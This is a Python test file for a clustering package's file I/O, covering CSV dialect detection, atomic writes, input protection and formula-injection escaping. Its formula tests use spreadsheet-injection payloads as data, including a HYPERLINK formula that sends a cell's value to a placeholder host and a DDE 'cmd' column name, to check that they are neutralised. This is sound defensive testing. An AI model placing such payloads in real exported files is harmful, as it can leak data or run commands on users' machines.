"""Files: reading tables, atomic writes, never overwriting inputs."""

from __future__ import annotations

import os
import warnings

import numpy as np
import pandas as pd
import pytest

from hclust.io import atomic_open, check_output, read_table, save_csv, save_npy


def test_read_formats(tmp_path):
    frame = pd.DataFrame({"a": [1.0, 2.0], "b": ["x", "y"]})
    frame.to_csv(tmp_path / "t.csv", index=False)
    frame.to_csv(tmp_path / "t.csv.gz", index=False)
    frame.to_csv(tmp_path / "t.tsv", index=False, sep="\t")
    for name in ("t.csv", "t.csv.gz", "t.tsv"):
        pd.testing.assert_frame_equal(read_table(tmp_path / name), frame)
    assert list(read_table(tmp_path / "t.csv", columns=["b"]).columns) == ["b"]


def test_failed_write_leaves_old_file(tmp_path):
    target = tmp_path / "out.csv"
    target.write_text("old")
    with pytest.raises(RuntimeError):
        with atomic_open(target) as stream:
            stream.write("partial")
            raise RuntimeError("disk full")
    assert target.read_text() == "old"
    assert [p.name for p in tmp_path.iterdir()] == ["out.csv"]


def test_save_npy_and_csv(tmp_path):
    save_npy(tmp_path / "z.npy", np.eye(2))
    np.testing.assert_array_equal(np.load(tmp_path / "z.npy"), np.eye(2))
    save_csv(tmp_path / "d" / "f.csv", pd.DataFrame({"a": [1]}))
    assert (tmp_path / "d" / "f.csv").read_text() == "a\n1\n"


def test_check_output(tmp_path):
    source = tmp_path / "in.csv"
    source.write_text("a\n1\n")
    with pytest.raises(ValueError, match="is an input file"):
        check_output(tmp_path / "." / "in.csv", source)
    with pytest.raises(ValueError, match="is a folder"):
        check_output(tmp_path, source)
    assert check_output(tmp_path / "out.csv", source, None).name == "out.csv"


# --------------------------------------------------------------------------- CSV dialects
from hclust.io import FormulaWarning, neutralise_formulas, read_source, save_table, sniff_csv  # noqa: E402

GERMAN = "Kunde;Umsatz;Besuche;Stadt\nMüller;1.234,50;3;Köln\nSchmidt;99,90;12;Düsseldorf\nÖzdemir;5,00;1;Münster\n"


@pytest.mark.parametrize(
    ("text", "encoding", "sep", "decimal", "detected"),
    [
        (GERMAN, "cp1252", ";", ",", "cp1252"),
        (GERMAN, "utf-8", ";", ",", "utf-8"),
        (GERMAN, "utf-8-sig", ";", ",", "utf-8-sig"),
        (GERMAN.replace("ü", "\x81").replace("Ö", "\x8d"), "latin-1", ";", ",", "latin-1"),
        ("a\tb\tname\n1.5\t2\tx\n3.25\t4\ty\n", "utf-8", "\t", ".", "utf-8"),
        ("a|b|name\n1,5|2|x\n3,25|4|y\n", "utf-8", "|", ",", "utf-8"),
        ('name,city,spend\n"Smith, John","Paris; Nord",1.5\n"Doe, Jane",Lyon,2.5\n', "utf-8", ",", ".", "utf-8"),
        ('name;spend\n"a;b";1\n"c;d";2\n', "utf-8", ";", ".", "utf-8"),
    ],
)
def test_sniff_csv_dialects(tmp_path, text, encoding, sep, decimal, detected):
    path = tmp_path / "t.csv"
    path.write_bytes(text.encode(encoding))
    dialect = sniff_csv(path)
    assert (dialect.sep, dialect.decimal, dialect.encoding) == (sep, decimal, detected)
    frame = read_table(path)
    assert frame.shape[1] == text.splitlines()[0].count(sep) + 1
    assert len(frame) == text.count("\n") - 1


def test_german_export_reads_numbers_and_names(tmp_path):
    """The bank-marketing / European format: semicolons, decimal comma, thousands dots, cp1252."""
    path = tmp_path / "kunden.csv"
    path.write_bytes(GERMAN.encode("cp1252"))
    frame, dialect = read_table(path, return_dialect=True)
    assert list(frame.columns) == ["Kunde", "Umsatz", "Besuche", "Stadt"]
    assert frame["Umsatz"].tolist() == [1234.5, 99.9, 5.0]
    assert frame["Kunde"].tolist() == ["Müller", "Schmidt", "Özdemir"]
    assert dialect.describe() == "semicolon-separated, decimal comma (thousands '.'), cp1252"
    assert dialect.given == ()


def test_utf8_sample_then_windows_bytes_falls_back_to_cp1252(tmp_path):
    rows = "".join(f"{i};{i},5;plain\n" for i in range(20_000))
    path = tmp_path / "long.csv"
    path.write_bytes(("id;x;name\n" + rows + "99999;1,0;Café\n").encode("cp1252"))
    frame, dialect = read_table(path, return_dialect=True)
    assert dialect.encoding == "cp1252" and frame["name"].iloc[-1] == "Café"
    assert frame["x"].iloc[0] == 0.5


def test_overrides_win_and_are_reported(tmp_path):
    path = tmp_path / "t.csv"
    path.write_text("a;b\n1,5;2\n3,5;4\n", encoding="utf-8")
    dialect = sniff_csv(path, sep=";", decimal=".", encoding="latin-1")
    assert (dialect.sep, dialect.decimal, dialect.encoding, dialect.given) == (";", ".", "iso8859-1", ("sep", "decimal", "encoding"))
    frame = read_table(path, decimal=".")
    assert frame["a"].tolist() == ["1,5", "3,5"]  # as told: the comma is not a decimal mark
    assert read_table(path, sep=";", decimal=",")["a"].tolist() == [1.5, 3.5]
    assert list(read_table(path, sep="|").columns) == ["a;b"]
    with pytest.raises(ValueError, match="must differ"):
        sniff_csv(path, sep=",", decimal=",")
    with pytest.raises(ValueError, match="not a text encoding"):
        sniff_csv(path, encoding="klingon")
    with pytest.raises(ValueError, match="decimal"):
        sniff_csv(path, decimal="x")
    pytest.importorskip("pyarrow")
    save_table(tmp_path / "t.parquet", pd.DataFrame({"a": [1.0]}))
    with pytest.raises(ValueError, match="apply to CSV and text files"):
        read_table(tmp_path / "t.parquet", sep=";", decimal=",")


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (b"\x89PNG\r\n\x1a\n\x00\x00", "PNG image"),
        (b"PK\x03\x04\x14\x00\x00\x00", "ZIP archive"),
        (b"\x1f\x8b\x08\x00", "gzip"),
        (bytes(range(256)) * 4, "binary data"),
    ],
)
def test_binary_files_are_refused(tmp_path, content, kind):
    path = tmp_path / "data.csv"
    path.write_bytes(content)
    with pytest.raises(ValueError, match=f"not a text .CSV. file: it looks like .*{kind}"):
        read_table(path)


def test_gzip_and_txt_are_sniffed(tmp_path):
    import gzip

    (tmp_path / "t.csv.gz").write_bytes(gzip.compress(GERMAN.encode("cp1252")))
    assert read_table(tmp_path / "t.csv.gz")["Umsatz"].tolist() == [1234.5, 99.9, 5.0]
    (tmp_path / "t.txt").write_text("a|b\n1|2\n3|4\n")
    assert list(read_table(tmp_path / "t.txt").columns) == ["a", "b"]


def test_read_source_returns_what_it_detected(tmp_path):
    path = tmp_path / "t.csv"
    path.write_bytes(GERMAN.encode("utf-8-sig"))
    frame, info = read_source(path, return_info=True)
    assert info.kind == "text" and info.dialect.encoding == "utf-8-sig" and info.tables is None
    assert frame.columns[0] == "Kunde"  # the BOM is not part of the first name


# --------------------------------------------------------------------------- formulas
EVIL = ["=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(1)", "\tTab", "\tTAB", "plain", None]


def test_csv_cells_and_names_are_neutralised(tmp_path):
    frame = pd.DataFrame({"name": EVIL, "=cmd|' /C calc'!A0": range(8), "spend": [-5.0] * 8})
    with pytest.warns(FormulaWarning, match=r"6 text cells and 1 column name .*leading '.*escape_formulas=False"):
        save_table(tmp_path / "o.csv", frame)
    back = pd.read_csv(tmp_path / "o.csv", keep_default_na=False)
    assert back["name"].tolist()[:6] == ["'" + v for v in EVIL[:6]]
    assert back["name"].tolist()[6:] == ["plain", ""]
    assert list(back.columns) == ["name", "'=cmd|' /C calc'!A0", "spend"]
    assert back["spend"].tolist() == [-5.0] * 8  # numbers are never touched
    assert frame["name"].tolist()[:7] == EVIL[:7]  # the caller's frame is unchanged


def test_escape_formulas_false_writes_raw_values(tmp_path):
    frame = pd.DataFrame({"name": EVIL[:4]})
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        save_table(tmp_path / "o.tsv", frame, escape_formulas=False)
    assert pd.read_csv(tmp_path / "o.tsv", sep="\t")["name"].tolist() == EVIL[:4]


def test_carriage_return_counts_as_a_formula_start():
    with pytest.warns(FormulaWarning, match="1 text cell "):
        assert neutralise_formulas(pd.DataFrame({"a": ["\rx", "y"]}))["a"].tolist() == ["'\rx", "y"]


def test_categorical_and_clean_tables(tmp_path):
    frame = pd.DataFrame({"plan": pd.Categorical(["=1+2", "basic", "=1+2"])})
    with pytest.warns(FormulaWarning, match="2 text cells"):
        out = neutralise_formulas(frame)
    assert out["plan"].tolist() == ["'=1+2", "basic", "'=1+2"]
    clean = pd.DataFrame({"a": ["x", "y"], "b": [1, 2]})
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        assert neutralise_formulas(clean) is clean


def test_xlsx_formulas_are_stored_as_text(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    frame = pd.DataFrame({"name": ["=1+1", "+1", "@x", "ok"], "=SUM(1)": [1, 2, 3, 4]})
    with pytest.warns(FormulaWarning, match="2 cells .* stored as text"):
        save_table(tmp_path / "o.xlsx", frame)
    sheet = openpyxl.load_workbook(tmp_path / "o.xlsx").active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert sheet["A2"].value == "=1+1" and sheet["A2"].quotePrefix
    assert sheet["B1"].value == "=SUM(1)" and sheet["B1"].quotePrefix
    save_table(tmp_path / "raw.xlsx", frame, escape_formulas=False)
    raw = openpyxl.load_workbook(tmp_path / "raw.xlsx").active
    assert raw["A2"].data_type == "f"


def test_parquet_is_written_as_is(tmp_path):
    pytest.importorskip("pyarrow")
    frame = pd.DataFrame({"name": ["=1+1"]})
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        save_table(tmp_path / "o.parquet", frame)
    assert pd.read_parquet(tmp_path / "o.parquet")["name"].tolist() == ["=1+1"]


def test_atomic_writes_sync_file_and_folder(tmp_path, monkeypatch):
    import hclust.io as io

    synced: list[int] = []
    real = os.fsync
    monkeypatch.setattr(io.os, "fsync", lambda fd: (synced.append(fd), real(fd))[1])
    save_csv(tmp_path / "a.csv", pd.DataFrame({"a": [1]}))
    assert len(synced) >= 2  # the file before the rename, the folder after it
